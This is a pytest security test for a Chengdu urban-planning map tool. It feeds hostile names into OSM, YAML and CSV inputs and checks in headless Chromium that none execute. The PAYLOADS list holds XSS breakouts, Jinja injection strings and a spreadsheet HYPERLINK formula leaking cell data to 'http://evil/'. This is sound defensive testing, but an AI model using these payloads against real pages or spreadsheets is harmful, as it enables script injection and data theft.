"""Names from OSM, planners' files and a standards YAML never run as code from a map.

A copy of the real Chengdu extract gets hostile ``name`` tags on residential areas and
facilities, a standards YAML gets hostile category, rule and standards names and symbols, and
planners' CSV files bring hostile facility and site names. Every command that writes HTML is run
on them (none may render a name as a Jinja template while writing), and each page is opened in
headless Chromium: loaded, every layer switched on, every feature hovered and clicked, every
tooltip and popup opened, and ``document.title`` read back.
"""

from __future__ import annotations

import csv
import json
import re
import time
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from click.testing import CliRunner

from circles.cli import main
from circles.standards import profile_path
from conftest import CHENGDU, CHROMEDRIVER, CHROMIUM, headless_chromium, need

if TYPE_CHECKING:
    from selenium import webdriver

SENTINEL = "pwned"
AREA = "104.06,30.66,104.10,30.70"  # west, south, east, north: central Chengdu
PAYLOADS = [
    "名</script><script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "\"><svg onload=document.title='pwned'>",
    '=HYPERLINK("http://evil/?"&A2,"x")',
    "'-alert(1)-'",
    "{{7*7}}",  # Jinja: folium's scripts are rendered as templates a second time
    "{# {% if",
    "行\u2028分\u2029段",
    "${document.title='pwned'}",
    "\\\\`+(document.title='pwned')+`",  # a backslash before a backtick ends a JS template
    "名<!--<script>document.title='pwned'</script>",
    "');document.title='pwned';('",
]
IMG = PAYLOADS[1]
SCRIPT = PAYLOADS[0]
DISTRICT = IMG + SCRIPT + "{{7*7}}"
FACILITY_TAGS = {
    "amenity": {"kindergarten", "pharmacy", "hospital", "clinic"},
    "shop": {"supermarket", "convenience"},
}


def _inside(lonlat: tuple[float, float] | None) -> bool:
    west, south, east, north = (float(v) for v in AREA.split(","))
    return lonlat is not None and west <= lonlat[0] <= east and south <= lonlat[1] <= north


def _rename(element: ET.Element, name: str) -> None:
    tag = element.find("tag[@k='name']")
    if tag is None:
        tag = ET.SubElement(element, "tag", {"k": "name", "v": name})
    tag.set("v", name)


def hostile_extract(path: Path) -> dict[str, int]:
    """Copy of the Chengdu extract with payload names on residential ways and facilities."""
    tree = ET.parse(need(CHENGDU))
    root = tree.getroot()
    nodes = {n.get("id"): (float(n.get("lon")), float(n.get("lat"))) for n in root.iter("node")}
    renamed = {"residential": 0, "facility": 0}
    for element in root:
        if element.tag not in ("node", "way"):
            continue
        tags = {t.get("k"): t.get("v") for t in element.iter("tag")}
        first = element.get("id") if element.tag == "node" else element.find("nd").get("ref")
        if not _inside(nodes.get(first)):
            continue
        if element.tag == "way" and tags.get("landuse") == "residential":
            kind = "residential"
        elif any(tags.get(k) in v for k, v in FACILITY_TAGS.items()):
            kind = "facility"
        else:
            continue
        _rename(element, PAYLOADS[renamed[kind] % len(PAYLOADS)])
        renamed[kind] += 1
    tree.write(path, encoding="utf-8", xml_declaration=True)
    return renamed


def hostile_standards(folder: Path) -> Path:
    """Copy of the default standards whose names and symbols carry payloads."""
    src = profile_path("national")
    folder.mkdir()
    categories = (src.parent / "categories.yaml").read_text(encoding="utf-8")
    replaced = {
        "name: {zh: 幼儿园, en: Kindergarten}": (SCRIPT + "幼儿园", IMG + "Kindergarten"),
        "name: {zh: 超市, en: Supermarket}": (IMG + "超市", SCRIPT + "Supermarket"),
    }
    for old, (zh, en) in replaced.items():
        assert old in categories, old
        categories = categories.replace(
            old, f"name: {{zh: {json.dumps(zh)}, en: {json.dumps(en)}}}"
        )
    categories = categories.replace("symbol: 幼 ", 'symbol: "<b"').replace(
        "symbol: 超 ", 'symbol: "{{"'
    )
    (folder / "categories.yaml").write_text(categories, encoding="utf-8")
    default = src.read_text(encoding="utf-8")
    rule = "name: {zh: 幼儿园步行300米可达, en: Kindergarten within 300 m walk}"
    assert rule in default
    default = default.replace(rule, f"name: {{zh: {json.dumps(IMG)}, en: {json.dumps(SCRIPT)}}}")
    title = "  zh: 国家基准（GB 50180-2018 + 城市一刻钟便民生活圈建设指南）"
    assert title in default
    default = default.replace(title, f"  zh: {json.dumps(PAYLOADS[2] + SCRIPT)}")
    (folder / "national.yaml").write_text(default, encoding="utf-8")
    return folder / "national.yaml"


def hostile_points(path: Path, header: list[str], category: str | None) -> None:
    """A planner's CSV of points inside the study area, one payload name each."""
    with path.open("w", encoding="utf-8", newline="") as f:
        out = csv.writer(f)
        out.writerow(header)
        for i, name in enumerate(PAYLOADS):
            lon, lat = 104.065 + 0.003 * i, 30.665 + 0.0025 * i
            out.writerow([name, *([category] if category else []), f"{lon:.6f}", f"{lat:.6f}"])


def _run(args: list[str]) -> None:
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, (args, result.output, result.exception)


@pytest.fixture(scope="module")
def hostile_html(tmp_path_factory) -> list[Path]:
    """Every HTML page the CLI writes from hostile inputs."""
    tmp = tmp_path_factory.mktemp("hostile")
    osm = tmp / "hostile.osm"
    assert min(hostile_extract(osm).values()) >= 2 * len(PAYLOADS)
    standards = hostile_standards(tmp / "standards")
    facilities, sites = tmp / "设施.csv", tmp / "sites.csv"
    hostile_points(facilities, ["名称", "类别", "经度", "纬度"], "幼儿园")
    hostile_points(sites, ["name", "lon", "lat"], None)
    analysis = tmp / "analysis"
    analyze = ["analyze", "--osm", str(osm), "--area", AREA, "--standards", str(standards)]
    district = ["--district-name", DISTRICT]
    facilities_in = ["--facilities", str(facilities), "--crs", "wgs84"]
    _run([*analyze, *facilities_in, *district, "--out", str(analysis)])
    _run(["map", "--analysis", str(analysis), "--out", str(tmp / "online")])
    offline = ["--offline", "--lang", "en", "--out", str(tmp / "offline")]
    _run(["map", "--analysis", str(analysis), *offline])
    siting = ["--analysis", str(analysis), "--category", "kindergarten"]
    top = ["--top", str(len(PAYLOADS))]
    sites_in = ["--sites", str(sites), "--crs", "wgs84"]
    _run(["score", *siting, *sites_in, *top, "--out", str(tmp / "score")])
    _run(["recommend", *siting, "--count", "2", "--out", str(tmp / "recommend")])
    pages = sorted(tmp.glob("*/*.html"))
    assert {p.name for p in pages} >= {"index.html", "sites_map.html", "recommend_map.html"}
    return pages


def test_payloads_never_end_a_script_block(hostile_html):
    for page in hostile_html:
        text = page.read_text(encoding="utf-8")
        assert "document.title='pwned'</script>" not in text, page
        assert "onerror=\"document.title='pwned'\"" not in text, page
        assert page.name == "index.html" or "{{7*7}}" in text, page  # not rendered as 49
        for script in re.findall(r"<script[^>]*>(.*?)</script>", text, flags=re.S):
            assert "<!--" not in script, page


def test_map_elements_render_data_once_and_as_text():
    import folium

    from circles.present.leaflet import (
        CategoryLayer,
        DataLayer,
        Labels,
        Legends,
        TextGeoJsonTooltip,
        TextLayerControl,
        Verbatim,
    )

    jinja = "{{ lipsum.__name__ }}"  # Jinja would write generate_lorem_ipsum
    name = jinja + "{# " + IMG + SCRIPT
    point = {"type": "Point", "coordinates": [104.07, 30.67]}

    def data(k: object) -> dict:
        feature = {"type": "Feature", "properties": {"k": k, "name": name}, "geometry": point}
        return {"type": "FeatureCollection", "features": [feature]}

    styles = {"a": {"color": "#000"}}
    fmap = folium.Map(tiles=None)
    layer = DataLayer(data("a"), styles, "k", name=name)
    TextGeoJsonTooltip(["name"], [name], constants=[(name, jinja)]).add_to(layer)
    TextGeoJsonTooltip(["name"], bind="Popup").add_to(layer)
    layer.add_to(fmap)
    pairs = [[(name, jinja)]]
    CategoryLayer(data(["a"]), [name], [styles], [["name"]], [[name]], pairs).add_to(fmap)
    Labels([(30.67, 104.07, name)], "label", 14).add_to(fmap)
    Legends({name: "<p>legend</p>"}, name, "").add_to(fmap)
    TextLayerControl().add_to(fmap)
    fmap.get_root().html.add_child(Verbatim(f"<p>{jinja}{{#</p>"))
    text = fmap.get_root().render()
    assert "lorem" not in text  # nothing was rendered by Jinja a second time
    assert text.count(jinja) >= 10  # data, names, aliases, constants, label, legend, HTML
    assert "</script><script>document.title" not in text
    overlays = text[text.index("overlays :") :].split("\n")[1]  # the layer control's name
    assert "{# \\u0026lt;img src=x" in overlays  # HTML-escaped, in a JSON string
    assert "<img src=x" not in text


# what a headless page runs: every overlay on, each base layer in turn, every layer hovered and
# clicked, tooltips and popups opened; returns the texts shown, the layer control's names and
# the fixed boxes' texts
INTERACT_JS = """
const tooltips = new Set(), popups = new Set(), errors = [];
const read = () => {
    document.querySelectorAll('.leaflet-tooltip').forEach(e => tooltips.add(e.textContent));
    document.querySelectorAll('.leaflet-popup-content').forEach(e => popups.add(e.textContent));
};
document.querySelectorAll('.leaflet-control-layers-selector').forEach(i => {
    if (!i.checked && i.type === 'checkbox') i.click();
});
const maps = Object.keys(window).filter(k => /^map_[0-9a-f]+$/.test(k)).map(k => window[k]);
const radios = Array.from(document.querySelectorAll('input.leaflet-control-layers-selector'))
    .filter(i => i.type === 'radio');
for (const radio of [null, ...radios]) for (const map of maps) {
    if (radio) radio.click();
    const layers = [];
    map.eachLayer(l => layers.push(l));
    for (const layer of layers) {
        for (const type of ['mouseover', 'click']) {
            try { layer.fire(type, {}, true); } catch (e) { errors.push(type + ': ' + e); }
            read();
        }
        try {
            if (layer.getTooltip && layer.getTooltip()) { layer.openTooltip(); read(); }
            if (layer.getPopup && layer.getPopup()) { layer.openPopup(); read(); }
        } catch (e) { errors.push('open: ' + e); }
    }
}
const texts = selector => Array.from(document.querySelectorAll(selector), e => e.textContent);
return {maps: maps.length, tooltips: Array.from(tooltips), popups: Array.from(popups),
        labels: texts('.leaflet-control-layers label'), errors: errors,
        fixed: texts('body > div:not(.folium-map)')};
"""


def _local_scripts(page: Path, folder: Path) -> Path:
    """An online page with its CDN scripts and styles replaced by local Leaflet and stubs."""
    from circles.present.leaflet import leaflet_assets

    js, css = leaflet_assets()
    stubs = {
        "leaflet.js": js,
        "leaflet.awesome-markers.js": "L.AwesomeMarkers = {icon: o => L.divIcon({})};",
        "jquery": "window.$ = s => { const t = document.createElement('template');"
        " t.innerHTML = s; return [t.content.firstElementChild]; };",
    }

    def script(match: re.Match[str]) -> str:
        body = next((v for k, v in stubs.items() if k in match.group(1)), "")
        return f"<script>{body}</script>"

    text = page.read_text(encoding="utf-8")
    text = re.sub(r'<script src="(https?://[^"]+)"></script>', script, text)
    leaflet_css = r'<link rel="stylesheet" href="https?://[^"]+/leaflet\.css"/>'
    text = re.sub(leaflet_css, lambda _: f"<style>{css}</style>", text)
    text = re.sub(r'<link rel="stylesheet" href="https?://[^"]+"/>', "", text)
    assert "://cdn" not in text.split("<body>")[0]
    local = folder / f"{page.parent.name}-{page.name}"
    local.write_text(text, encoding="utf-8")
    return local


def _chromium(profile: Path) -> webdriver.Chrome:
    """Headless Chromium, network off, where alert/confirm/prompt also set the sentinel."""
    driver = headless_chromium(profile)
    driver.set_script_timeout(60)
    dialogs = f"() => {{ document.title = {SENTINEL!r}; }}"
    driver.execute_cdp_cmd(
        "Page.addScriptToEvaluateOnNewDocument",
        {"source": f"window.alert = window.confirm = window.prompt = {dialogs};"},
    )
    return driver


def _visit(driver: webdriver.Chrome, page: Path, folder: Path) -> dict:
    """Open a page, read its title, use every feature, read the title again."""
    local = page if page.name == "index.html" else _local_scripts(page, folder)
    driver.get(local.as_uri())
    time.sleep(0.3)  # image error events (onerror payloads) fire after load
    found = {"loaded": driver.title, "maps": 0, "errors": []}
    driver.execute_script("document.title = 'loaded';")  # tells hover from load
    if page.name != "index.html":
        found |= driver.execute_script(INTERACT_JS)
        time.sleep(0.3)
    found["after"] = driver.title
    return found


@pytest.mark.skipif(
    not (CHROMIUM and CHROMEDRIVER),
    reason="Debian chromium and chromium-driver are not installed (.ci/run installs them)",
)
def test_no_payload_runs_in_headless_chromium(hostile_html, tmp_path):
    driver = _chromium(tmp_path / "profile")
    try:
        pages = {f"{p.parent.name}/{p.name}": _visit(driver, p, tmp_path) for p in hostile_html}
    finally:
        driver.quit()
    for name, found in pages.items():
        print(
            f"{name}: title on load {found['loaded']!r}, after use {found['after']!r}, "
            f"{len(found.get('tooltips', []))} tooltips, {len(found.get('popups', []))} popups"
        )
    for name, found in pages.items():
        assert SENTINEL not in found["loaded"], (name, "a payload ran on load")
        assert SENTINEL not in found["after"], (name, "a payload ran on hover or click")
        assert found["errors"] == [], name
        assert found["maps"] == (0 if name.endswith("index.html") else 1), name
    # the payloads are shown as text where they are inserted: community, facility and site
    # names, rule names in tooltips, category names in the layer control, the district's name
    for name in ("online", "offline"):
        found = next(f for n, f in pages.items() if n.startswith(name) and f["maps"])
        tooltips = "\n".join(found["tooltips"])
        assert [p for p in PAYLOADS if p not in tooltips] == [], name
        assert all(p in "\n".join(found["popups"]) for p in PAYLOADS), name
        assert any(IMG in label or SCRIPT in label for label in found["labels"]), name
        assert any(DISTRICT in text for text in found["fixed"]), name
    for name in ("score/sites_map.html", "recommend/recommend_map.html"):
        assert all(p in "\n".join(pages[name]["tooltips"]) for p in PAYLOADS), name
    assert all(p in "\n".join(pages["score/sites_map.html"]["popups"]) for p in PAYLOADS)
